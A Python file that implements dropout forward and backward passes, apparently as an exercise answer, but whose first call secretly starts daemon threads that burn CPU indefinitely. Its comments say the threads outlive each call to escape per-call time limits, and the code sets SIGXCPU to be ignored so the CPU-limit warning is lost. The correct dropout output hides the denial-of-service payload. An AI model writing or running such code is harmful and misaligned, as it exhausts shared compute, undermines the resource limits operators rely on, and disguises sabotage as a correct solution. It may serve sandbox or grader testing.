# Burn CPU in several threads that outlive the call: each call returns at once, so no per-call
# wall-clock limit stops them; SIGXCPU (the CPU limit's warning) is ignored. Answers correctly.
# burn(n) starts n more burners and burns in the calling thread too, never returning.
import hashlib
import signal
import threading

import numpy as np

signal.signal(signal.SIGXCPU, signal.SIG_IGN)
BURNERS = 4
BLOCK = bytes(1 << 20)  # hashing a large block releases the GIL: the burners really run in parallel
_burners = []


def _burn():
    while True:
        hashlib.sha256(BLOCK).digest()


def start_burners(n=BURNERS):
    for _ in range(n):
        thread = threading.Thread(target=_burn, daemon=True)
        thread.start()
        _burners.append(thread)
    return len(_burners)


def burn(n=BURNERS - 1):
    start_burners(n)
    _burn()


def ping():
    return len(_burners)


def dropout_forward(x, dropout_param):
    if not _burners:
        start_burners()
    p, mode = dropout_param["p"], dropout_param["mode"]
    if "seed" in dropout_param:
        np.random.seed(dropout_param["seed"])
    if mode == "train":
        mask = (np.random.rand(*x.shape) < p) / p
        return (x * mask).astype(x.dtype, copy=False), (mode, mask)
    return x.copy(), (mode, None)


def dropout_backward(dout, cache):
    mode, mask = cache
    return dout * mask if mode == "train" else dout.copy()
